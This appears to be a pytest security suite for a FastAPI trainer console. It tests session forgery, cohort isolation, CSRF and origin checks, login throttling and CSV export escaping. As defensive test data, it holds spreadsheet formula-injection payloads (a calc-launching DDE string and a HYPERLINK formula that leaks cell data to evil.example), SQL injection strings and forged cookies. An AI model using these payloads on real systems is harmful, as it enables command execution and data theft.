"""Hostile requests against the trainer console, on the real app, SQLite question log and scrypt accounts.

Every route under /trainer is taken from the app's router, so a route added later is covered (or fails
here until it is classified): anonymous and forged sessions are refused everywhere, a trainer scoped to
one cohort sees nothing of another and no trainer sees learners' names, every write needs this session's
CSRF token and the app's own origin, the CSV export cannot run formulas, and the responses carry the
browser hardening headers. XSS in the rendered pages is checked in Chromium (test_console_xss_browser.py).
"""

from __future__ import annotations

import base64
import csv
import io
import json
import statistics
import time
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from fastapi import FastAPI
from fastapi.routing import iter_route_contexts
from fastapi.testclient import TestClient
from pydantic import SecretStr

from assistant.api.app import create_app
from assistant.api.auth import COOKIE, CSRF_HEADER
from assistant.api.signing import sign
from assistant.config import Settings
from assistant.embeddings import MiniLMEncoder
from assistant.services import Services
from assistant.storage.models import TrainerAccount
from tests.helpers.portal import portal_token, rate, widget_ask, widget_attempt

HOST = "console.example"
ORIGIN = f"https://{HOST}"
SESSION_SECRET = "test-console-session-secret-5b1f8e2a9c"
WIDGET_SECRET = "test-portal-widget-secret-3d7c0a6f41e9"
PASSWORD = "a long trainer password"
ALPHA, BRAVO = "alpha-2026", "bravo-2026"
CONSOLE = "/trainer"
# Reachable without a session: the sign-in page and its assets, and signing in.
PUBLIC = {("GET", "/trainer"), ("GET", "/trainer/console.{ext}"), ("POST", "/trainer/api/login")}
ADMIN_ONLY = {"/trainer/api/audit"}
# Curated answers are served to every learner on every channel, so every trainer may list them.
SHARED = {"/trainer/api/curated"}
WRITES = {"POST", "PUT", "PATCH", "DELETE"}
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"open me")',
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


@dataclass
class Learner:
    sub: str
    name: str
    cohort: str
    user_id: int = 0
    session_id: str = ""
    message_ids: list[str] = field(default_factory=list)


@dataclass
class World:
    """One app on one seeded database, shared by this module's tests (each adds what it changes)."""

    app: FastAPI
    settings: Settings
    services: Services
    alpha: Learner
    bravo: Learner
    curated_target: str  # a message of bravo's kept out of the other tests, for the curated-answer write
    stack: ExitStack
    started: set[int] = field(default_factory=set)

    def client(self, app: FastAPI | None = None, address: str = "testclient") -> TestClient:
        """A client of its own (cookies, address). The first one per app runs the app's lifespan; the
        others share the state it set up, as a start-up's warm-up costs over half a second."""
        app = app or self.app
        client = TestClient(app, base_url=ORIGIN, client=(address, 50000))
        if id(app) in self.started:
            self.stack.callback(client.close)
            return client
        self.started.add(id(app))
        return self.stack.enter_context(client)

    def login(self, username: str) -> tuple[TestClient, str]:
        client = self.client()
        reply = client.post("/trainer/api/login", json={"username": username, "password": PASSWORD})
        assert reply.status_code == 200, reply.text
        return client, str(reply.json()["csrf"])

    def account_id(self, username: str) -> int:
        return next(a.id for a in self.services.console.accounts.list() if a.username == username)

    def side_effects(self) -> tuple[int, int]:
        """What a write leaves behind: audit entries and curated answers."""
        console = self.services.console
        return len(console.audit.recent(500)), len(console.curated.list(include_inactive=True))


def console_routes(app: FastAPI) -> list[tuple[str, str]]:
    """(method, path template) of every route under /trainer, from the app's router."""
    found: set[tuple[str, str]] = set()
    for route in iter_route_contexts(app.routes):
        path = route.path or ""
        if path == CONSOLE or path.startswith(CONSOLE + "/"):
            assert route.methods, f"{path} has no methods (a mount?): classify it in this test"
            found |= {(m, path) for m in route.methods if m != "HEAD"}
    return sorted(found)


def url(path: str, **params: object) -> str:
    values = {"ext": "js", "session_id": "0" * 32, "curated_id": 1, **params}
    return path.format_map(values)


@pytest.fixture(scope="module")
def world(
    tmp_path_factory: pytest.TempPathFactory, encoder: MiniLMEncoder, model_cache: Path
) -> Iterator[World]:
    settings = Settings(
        _env_file=None,  # type: ignore[call-arg]
        data_dir=tmp_path_factory.mktemp("console-security") / "data",
        model_cache_dir=model_cache,
        session_secret=SecretStr(SESSION_SECRET),
        widget_secret=SecretStr(WIDGET_SECRET),
        widget_origins=["https://portal.example"],
        rate_limit_per_minute=1000,
    )
    services = Services(settings, encoder=encoder)
    app = create_app(settings, services)
    alpha = Learner("EMP-ALPHA-1", "Ayesha Alphaname", ALPHA)
    bravo = Learner("EMP-BRAVO-1", "Bilal Bravoname", BRAVO)
    with ExitStack() as stack:
        stack.callback(services.close)
        world = World(app, settings, services, alpha, bravo, "", stack)
        learner_api = world.client()
        tokens = {}
        for who, asks in ((alpha, 1), (bravo, 2)):
            token = tokens[who.cohort] = portal_token(WIDGET_SECRET, who.sub, who.name, who.cohort)
            for n in range(asks):
                done = widget_ask(
                    learner_api, token, f"{who.cohort} marker question {n}: how do I renew leave?"
                )
                who.session_id = done["session_id"]
                who.message_ids.append(done["message_id"])
            widget_attempt(learner_api, token, f"Write a polite reply for {who.cohort} about water supply.")
            who.user_id = services.question_log.find_user("web", who.sub) or 0
        rate(learner_api, bravo.message_ids[0], "down", f"{BRAVO} marker comment")
        done = widget_ask(learner_api, tokens[BRAVO], f"{BRAVO} curated target: who approves study leave?")
        world.curated_target = done["message_id"]
        for username, role, cohort in [
            ("trainer-alpha", "trainer", ALPHA),
            ("trainer-bravo", "trainer", BRAVO),
            ("trainer-all", "trainer", None),
            ("admin-1", "admin", None),
        ]:
            services.console.accounts.add(username, PASSWORD, role, cohort)
        yield world


# -- 1. authentication ---------------------------------------------------------------------------------


def test_the_console_routes_are_found_on_the_router(world: World) -> None:
    routes = console_routes(world.app)
    assert len(routes) >= 15
    assert {("GET", "/trainer/api/messages"), ("POST", "/trainer/api/curated")} <= set(routes)
    assert PUBLIC <= set(routes) and {("GET", p) for p in ADMIN_ONLY} <= set(routes)


def test_every_console_route_refuses_anonymous_requests(world: World) -> None:
    anonymous = world.client()
    for method, path in console_routes(world.app):
        reply = anonymous.request(method, url(path), json={})
        if (method, path) in PUBLIC:
            assert reply.status_code in (200, 401, 422), (method, path, reply.status_code)
            assert "marker" not in reply.text
            continue
        assert reply.status_code == 401, (method, path, reply.status_code, reply.text)
        assert reply.json() == {"detail": "Please sign in."}


def _forged(world: World, secret: str = SESSION_SECRET, **claims: object) -> str:
    account = world.services.console.accounts.named("trainer-all")
    payload = {
        "a": account.id,
        "g": account.session_generation,
        "n": "forged-nonce",
        "exp": int(time.time()) + 600,
    }
    return sign({**payload, **claims}, secret.encode())


def _tampered(cookie: str, **claims: object) -> str:
    """The same signature over a changed payload."""
    body, _, signature = cookie.partition(".")
    payload = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
    changed = base64.urlsafe_b64encode(json.dumps({**payload, **claims}).encode()).rstrip(b"=").decode()
    return f"{changed}.{signature}"


def _login_cookie(world: World, username: str) -> str:
    client, _ = world.login(username)
    value = client.cookies.get(COOKIE)
    assert value
    return value


def test_forged_tampered_expired_and_foreign_cookies_are_refused_everywhere(world: World) -> None:
    services = world.services
    for username in ("trainer-disabled", "trainer-deleted"):
        services.console.accounts.add(username, PASSWORD, "trainer", ALPHA)
    disabled = _login_cookie(world, "trainer-disabled")
    deleted = _login_cookie(world, "trainer-deleted")
    real = _login_cookie(world, "trainer-alpha")
    with services.console.database.session() as session:
        session.execute(
            sa.update(TrainerAccount)
            .where(TrainerAccount.username == "trainer-disabled")
            .values(active=False)
        )
        session.execute(sa.delete(TrainerAccount).where(TrainerAccount.username == "trainer-deleted"))
    body, _, signature = real.partition(".")
    admin_id = world.account_id("admin-1")
    bad = {
        "garbage": "not-a-session",
        "empty": "",
        "dots": "a.b.c",
        "unsigned": body + ".",
        "flipped signature": f"{body}.{signature[:-2]}{'A' if signature[-2] != 'A' else 'B'}{signature[-1]}",
        "payload made admin": _tampered(real, a=admin_id),
        "lifetime extended": _tampered(real, exp=int(time.time()) + 10**6),
        "another secret": _forged(world, secret="another-deployment-secret-9f8e7d6c5b4a"),
        "expired": _forged(world, exp=int(time.time()) - 5),
        "expiry as text": _forged(world, exp="9999999999"),
        "no expiry": sign({"a": world.account_id("trainer-all"), "n": "x"}, SESSION_SECRET.encode()),
        "no session generation (issued before revocation)": _forged(world, g=None),
        "generation as text": _forged(world, g="0"),
        "a later generation": _forged(world, g=10**6),
        "unknown account": _forged(world, a=10**6),
        "disabled account": disabled,
        "deleted account": deleted,
        "oversized": "A" * 3000 + "." + "B" * 43,
    }
    probe = world.client()
    # positive controls: the real cookie and one forged with the right secret do sign in
    assert probe.get("/trainer/api/me", headers={"Cookie": f"{COOKIE}={real}"}).json()["username"] == (
        "trainer-alpha"
    )
    forged = probe.get("/trainer/api/me", headers={"Cookie": f"{COOKIE}={_forged(world)}"})
    assert forged.status_code == 200 and forged.json()["username"] == "trainer-all"
    protected = [(m, p) for m, p in console_routes(world.app) if (m, p) not in PUBLIC]
    for name, value in bad.items():
        for method, path in protected:
            reply = probe.request(method, url(path), json={}, headers={"Cookie": f"{COOKIE}={value}"})
            assert reply.status_code == 401, (name, method, path, reply.status_code, reply.text)


def test_a_cookie_copied_before_sign_out_no_longer_works(world: World) -> None:
    """Sign-out ends every session of the account: the copied cookie, and another browser's."""
    client, csrf = world.login("trainer-all")
    copied = client.cookies.get(COOKIE)
    other_browser, _ = world.login("trainer-all")
    bystander, _ = world.login("trainer-alpha")
    assert client.post("/trainer/api/logout", headers={CSRF_HEADER: csrf}).status_code == 200
    replay = world.client().get("/trainer/api/me", headers={"Cookie": f"{COOKIE}={copied}"})
    assert replay.status_code == 401
    assert other_browser.get("/trainer/api/me").status_code == 401
    assert bystander.get("/trainer/api/me").status_code == 200  # other accounts stay signed in
    again, _ = world.login("trainer-all")  # signing in again works at once
    assert again.get("/trainer/api/me").json()["username"] == "trainer-all"


def test_a_password_reset_or_disabling_ends_the_accounts_sessions(world: World) -> None:
    accounts = world.services.console.accounts
    accounts.add("trainer-reset", PASSWORD, "trainer", ALPHA)
    client, _ = world.login("trainer-reset")
    assert client.get("/trainer/api/me").status_code == 200
    accounts.set_password("trainer-reset", PASSWORD + " rotated")
    assert client.get("/trainer/api/me").status_code == 401
    accounts.set_password("trainer-reset", PASSWORD)
    client, _ = world.login("trainer-reset")
    accounts.set_active("trainer-reset", False)
    assert client.get("/trainer/api/me").status_code == 401
    accounts.set_active("trainer-reset", True)
    assert client.get("/trainer/api/me").status_code == 401  # re-enabling does not revive old sessions
    assert world.login("trainer-reset")[0].get("/trainer/api/me").status_code == 200


def test_wrong_password_unknown_user_and_disabled_account_get_the_same_answer(world: World) -> None:
    services = world.services
    services.console.accounts.add("trainer-off", PASSWORD, "trainer")
    with services.console.database.session() as session:
        session.execute(
            sa.update(TrainerAccount).where(TrainerAccount.username == "trainer-off").values(active=False)
        )
    client = world.client()

    def attempt(username: str, password: str) -> tuple[int, Any, bool, float]:
        started = time.perf_counter()
        reply = client.post("/trainer/api/login", json={"username": username, "password": password})
        elapsed = time.perf_counter() - started
        return reply.status_code, reply.json(), "set-cookie" in reply.headers, elapsed

    wrong, unknown, off = [], [], []
    for _ in range(3):  # interleaved, so machine load hits all three alike
        wrong.append(attempt("trainer-alpha", "not the password at all"))
        unknown.append(attempt("nobody-by-this-name", PASSWORD))
        off.append(attempt("trainer-off", PASSWORD))
    answers = {(status, json.dumps(body), cookie) for status, body, cookie, _ in wrong + unknown + off}
    assert answers == {(401, json.dumps({"detail": "Wrong username or password."}), False)}
    # an unknown name costs a password hash too (no user enumeration by timing)
    assert statistics.median(t for *_, t in unknown) > 0.3 * statistics.median(t for *_, t in wrong)
    assert attempt("trainer-alpha", PASSWORD)[0] == 200  # positive control


def test_sign_in_is_throttled_per_address_and_per_account(world: World) -> None:
    strict = create_app(world.settings.model_copy(update={"rate_limit_per_minute": 3}), world.services)
    for username in ("trainer-guessed", "trainer-sprayed", "trainer-bystander"):
        world.services.console.accounts.add(username, PASSWORD, "trainer")

    def login(address: str, username: str, password: str) -> int:
        client = world.client(strict, address)
        reply = client.post("/trainer/api/login", json={"username": username, "password": password})
        return reply.status_code

    # one address guessing
    assert [login("198.51.100.7", "trainer-guessed", f"guess {n} of many") for n in range(3)] == [401] * 3
    assert login("198.51.100.7", "trainer-guessed", PASSWORD) == 429  # even the right password now
    # many addresses guessing one account
    attempts = [login(f"203.0.113.{n}", "trainer-sprayed", f"guess {n} of many") for n in range(3)]
    assert attempts == [401] * 3
    assert login("203.0.113.99", "trainer-sprayed", PASSWORD) == 429
    assert login("203.0.113.99", "trainer-bystander", PASSWORD) == 200  # other accounts are unaffected


# -- 2. cohort scope, personal data, roles --------------------------------------------------------------


def _reads(world: World) -> list[str]:
    return [
        p
        for m, p in console_routes(world.app)
        if m == "GET" and p.startswith("/trainer/api/") and p not in ADMIN_ONLY | SHARED
    ]


def test_a_cohort_trainer_sees_nothing_of_another_cohort(world: World) -> None:
    alpha, _ = world.login("trainer-alpha")
    bravo = world.bravo
    attempts: list[dict[str, Any]] = [
        {},
        {"cohort": BRAVO},
        {"learner": bravo.user_id},
        {"cohort": BRAVO, "learner": bravo.user_id},
        {"q": "marker", "status": "refused", "rating": "down"},
        {"cohort": f"{ALPHA}' OR '1'='1"},
        {"q": "%' OR 1=1 --"},
    ]
    for path in _reads(world):
        for params in attempts:
            reply = alpha.get(url(path, session_id=bravo.session_id), params=params)
            assert reply.status_code in (200, 404), (path, params, reply.status_code, reply.text)
            text = reply.text.lower()
            leaked = [s for s in ("bravo", bravo.session_id, *bravo.message_ids) if s.lower() in text]
            assert not leaked, (path, params, leaked)
    assert alpha.get(f"/trainer/api/conversations/{bravo.session_id}").status_code == 404
    charts = alpha.get("/trainer/api/charts", params={"cohort": BRAVO}).json()
    assert charts["questions"] == 0 and charts["feedback"] == {"up": 0, "down": 0}
    assert alpha.get("/trainer/api/charts").json()["questions"] == len(world.alpha.message_ids)
    assert alpha.get("/trainer/api/me").json()["cohorts"] == [ALPHA]


def test_the_other_cohorts_trainer_does_see_it(world: World) -> None:
    """The positive control of the test above: the same requests by bravo's trainer find bravo's data."""
    trainer, _ = world.login("trainer-bravo")
    bravo = world.bravo
    for path in (
        "/trainer/api/messages",
        "/trainer/api/messages.csv",
        "/trainer/api/queue",
        "/trainer/api/gaps",
        "/trainer/api/progress",
        f"/trainer/api/conversations/{bravo.session_id}",
    ):
        reply = trainer.get(path, params={"cohort": BRAVO} if "conversations" not in path else None)
        assert reply.status_code == 200 and "bravo" in reply.text.lower(), path
    assert bravo.message_ids[0] in trainer.get("/trainer/api/queue").text
    assert trainer.get("/trainer/api/charts").json()["feedback"]["down"] == 1


def test_a_trainer_cannot_attach_a_curated_answer_to_another_cohorts_message(world: World) -> None:
    alpha, alpha_csrf = world.login("trainer-alpha")
    body = {"question": "Who approves study leave?", "answer": "The head of department."}
    before = world.side_effects()
    for message_id in (world.curated_target, "no-such-message"):
        reply = alpha.post(
            "/trainer/api/curated",
            json={**body, "source_message_id": message_id},
            headers={CSRF_HEADER: alpha_csrf},
        )
        assert reply.status_code == 404, (message_id, reply.status_code, reply.text)
    assert world.side_effects() == before
    bravo, bravo_csrf = world.login("trainer-bravo")
    assert world.curated_target in bravo.get("/trainer/api/queue").text
    reply = bravo.post(
        "/trainer/api/curated",
        json={**body, "source_message_id": world.curated_target},
        headers={CSRF_HEADER: bravo_csrf},
    )
    assert reply.status_code == 201, reply.text
    assert world.curated_target not in bravo.get("/trainer/api/queue").text


def test_trainers_never_see_learners_names_admins_do(world: World) -> None:
    people = [world.alpha, world.bravo]
    secrets_ = [s for p in people for s in (p.name.split()[0], p.name.split()[1], p.sub)]
    session_of = {p.cohort: p.session_id for p in people}
    for username in ("trainer-alpha", "trainer-bravo", "trainer-all"):
        client, _ = world.login(username)
        session = session_of.get(client.get("/trainer/api/me").json()["cohort"], world.alpha.session_id)
        for path in _reads(world):
            reply = client.get(url(path, session_id=session))
            assert reply.status_code == 200, (username, path, reply.status_code)
            shown = [s for s in secrets_ if s.lower() in reply.text.lower()]
            assert not shown, (username, path, shown)
        pseudonym = f"learner #{world.bravo.user_id if username == 'trainer-bravo' else world.alpha.user_id}"
        assert pseudonym in client.get("/trainer/api/messages").text  # positive control: rows were shown
    admin, _ = world.login("admin-1")
    for path in (
        "/trainer/api/messages",
        "/trainer/api/messages.csv",
        "/trainer/api/progress",
        f"/trainer/api/conversations/{world.bravo.session_id}",
    ):
        assert "Bilal Bravoname" in admin.get(path).text, path


def test_trainers_cannot_use_admin_only_routes(world: World) -> None:
    routes = console_routes(world.app)
    sensitive = {p for _, p in routes if any(w in p for w in ("audit", "user", "account", "admin"))}
    assert sensitive <= ADMIN_ONLY, f"classify these routes: {sensitive - ADMIN_ONLY}"
    admin, _ = world.login("admin-1")
    for username in ("trainer-alpha", "trainer-all"):
        trainer, _ = world.login(username)
        for path in ADMIN_ONLY:
            reply = trainer.get(path)
            assert reply.status_code == 403 and "entries" not in reply.json(), (username, path)
            assert admin.get(path).status_code == 200


# -- 3. CSRF ------------------------------------------------------------------------------------------

WRITE_BODIES: dict[str, dict[str, Any] | None] = {
    "/trainer/api/logout": None,
    "/trainer/api/curated": {"question": "What is the CSRF drill?", "answer": "A test of the console."},
    "/trainer/api/curated/{curated_id}/active": {"active": True},
    "/trainer/api/curated/{curated_id}/wordings": {"wording": "What is a CSRF drill for?"},
}


def test_every_console_write_needs_this_sessions_csrf_token_and_the_own_origin(world: World) -> None:
    writes = [(m, p) for m, p in console_routes(world.app) if m in WRITES and (m, p) not in PUBLIC]
    assert ("POST", "/trainer/api/curated") in writes and ("POST", "/trainer/api/logout") in writes
    assert {p for _, p in writes} <= set(WRITE_BODIES), "add a valid body for the new write route"
    world.services.console.accounts.add("trainer-csrf", PASSWORD, "trainer")
    _, other_sessions_token = world.login("trainer-csrf")
    curated = world.services.console.curated.add("What is a drill?", "Practice.", "admin-1")
    for method, path in writes:
        client, csrf = world.login("trainer-csrf")  # a fresh session: logging out ends the last one
        target, body = url(path, curated_id=curated.id), WRITE_BODIES[path]
        before = world.side_effects()
        refused = {
            "no token": {},
            "empty token": {CSRF_HEADER: ""},
            "wrong token": {CSRF_HEADER: "0" * 64},
            "another session's token": {CSRF_HEADER: other_sessions_token},
            "foreign origin": {CSRF_HEADER: csrf, "Origin": "https://evil.example"},
            "null origin": {CSRF_HEADER: csrf, "Origin": "null"},
            "look-alike origin": {CSRF_HEADER: csrf, "Origin": f"{ORIGIN}.evil.example"},
            "plain-http origin": {CSRF_HEADER: csrf, "Origin": f"http://{HOST}"},
        }
        for name, headers in refused.items():
            reply = client.request(method, target, json=body, headers=headers)
            assert reply.status_code == 403, (name, method, path, reply.status_code, reply.text)
        assert world.side_effects() == before, (method, path)
        accepted = client.request(method, target, json=body, headers={CSRF_HEADER: csrf, "Origin": ORIGIN})
        assert accepted.status_code in (200, 201), (method, path, accepted.text)
        assert world.side_effects() != before  # the accepted write was audited


def test_sign_in_from_another_site_is_refused(world: World) -> None:
    """Login CSRF: another site cannot sign the trainer's browser into an account of its choosing."""
    client = world.client()
    creds = {"username": "trainer-all", "password": PASSWORD}
    login = "/trainer/api/login"
    foreign = client.post(login, json=creds, headers={"Origin": "https://evil.example"})
    # a cross-site HTML form can only send form or text bodies, which are not JSON
    as_text = client.post(login, content=json.dumps(creds), headers={"Content-Type": "text/plain"})
    as_form = client.post(login, data=creds)
    for reply in (foreign, as_text, as_form):
        assert reply.is_client_error and "set-cookie" not in reply.headers, reply.text
    assert client.post(login, json=creds, headers={"Origin": ORIGIN}).status_code == 200


# -- 4. CSV and headers -------------------------------------------------------------------------------


def test_csv_export_cannot_run_spreadsheet_formulas(world: World) -> None:
    learner_api = world.client()
    token = portal_token(WIDGET_SECRET, "EMP-FORMULA", FORMULAS[4], "=formula-lab")
    for formula in FORMULAS:
        done = widget_ask(learner_api, token, formula)
        rate(learner_api, done["message_id"], "down", formula)
    admin, _ = world.login("admin-1")
    exported = admin.get("/trainer/api/messages.csv", params={"cohort": "=formula-lab"})
    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    assert exported.headers["content-disposition"].startswith("attachment")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert len(rows) == len(FORMULAS)
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c.startswith(DANGEROUS_START)]
    # the text is all there, behind the quote that makes it text
    assert {r["question"] for r in rows} == {"'" + f for f in FORMULAS}
    assert {r["comment"] for r in rows} == {"'" + f for f in FORMULAS}
    assert {r["learner"] for r in rows} == {"'" + FORMULAS[4]}
    assert {r["cohort"] for r in rows} == {"'=formula-lab"}


def test_console_responses_carry_the_browser_hardening_headers(world: World) -> None:
    client, _ = world.login("admin-1")
    for method, path in console_routes(world.app):
        if method != "GET":
            continue
        for target in {url(path, session_id=world.alpha.session_id, ext=ext) for ext in ("js", "css")}:
            reply = client.get(target)
            assert reply.status_code == 200, (target, reply.status_code)
            headers = reply.headers
            assert headers.get("x-content-type-options") == "nosniff", target
            csp = headers.get("content-security-policy", "")
            assert "frame-ancestors 'none'" in csp, (target, csp)
            if headers["content-type"].startswith("text/html"):
                script_src = next(
                    d for d in csp.split(";") if d.strip().startswith(("script-src", "default-src"))
                )
                assert "'self'" in script_src and "unsafe" not in csp, csp
                assert headers.get("x-frame-options") == "DENY"
            if path.startswith("/trainer/api/"):
                assert "no-store" in headers.get("cache-control", ""), target  # learners' data stays off disk
    # the widget is embedded cross-origin by a script tag: nothing here may stop that
    widget = client.get("/widget.js")
    assert widget.status_code == 200 and "cross-origin-resource-policy" not in widget.headers
    config = client.get("/widget/api/config", headers={"Origin": "https://portal.example"})
    assert config.headers["access-control-allow-origin"] == "https://portal.example"
